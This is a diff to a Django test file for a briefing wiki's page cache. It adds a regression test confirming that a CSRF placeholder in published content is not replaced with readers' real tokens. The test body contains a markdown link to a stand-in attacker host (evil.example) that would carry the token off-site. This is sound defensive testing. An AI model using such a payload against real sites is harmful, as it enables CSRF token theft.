@@ -17,7 +17,7 @@ from actors.models import Actor
 from briefings.models import Briefing, Subscription
 from briefings.services import briefing_create, briefing_publish, briefing_revise, suggestion_propose
 from core import auth
-from core.page_cache import CSRF_PLACEHOLDER, local_pages
+from core.page_cache import local_pages
 from claims.models import Claim
 from core.roles import EDITOR
 from tests.factories import ActorFactory, ArticleFactory, CitationFactory, ClaimFactory
@@ -97,12 +97,28 @@ def test_a_kept_page_carries_a_working_csrf_token_of_its_own(kirkuk, bob):
     first, _ = view(client, kirkuk)
     second, sqls = view(client, kirkuk)
     assert len(sqls) == 1  # served from the kept page
-    assert CSRF_PLACEHOLDER not in first + second
+    assert "briefwiki-csrf-" not in first + second
     tokens = csrf_tokens(second)
     assert len(tokens) == 1 and tokens != csrf_tokens(first)  # masked anew per request
     response = client.post(f"/b/{kirkuk.slug}/watch/", {"csrfmiddlewaretoken": tokens.pop()})
     assert response.status_code == 302
     assert Subscription.objects.filter(user=bob, briefing=kirkuk).exists()
+
+
+def test_the_csrf_token_is_filled_in_only_inside_the_csrf_input(roles, rita, bob):
+    """A published body that spells a placeholder must not carry each reader's token off-site."""
+    clear_process_caches()
+    briefing = briefing_create(title="Kirkuk control", body="[a link](https://evil.example/?t=briefwiki-csrf-token-"
+                               "placeholder) and briefwiki-csrf-token-placeholder")
+    briefing_publish(briefing=briefing, reviewer=rita)
+    client = signed_in(bob)
+    for _ in range(2):  # rendered to be kept, then served from the kept page
+        html, _ = view(client, briefing)
+        token = client.cookies["csrftoken"].value if "csrftoken" in client.cookies else None
+        assert html.count("briefwiki-csrf-token-placeholder") == 2
+        assert len(csrf_tokens(html)) == 1
+        assert token is None or token not in html.replace(csrf_tokens(html).pop(), "")
+    clear_process_caches()
 
 
 def test_watching_shows_with_its_message_then_the_kept_page_again(kirkuk, bob):
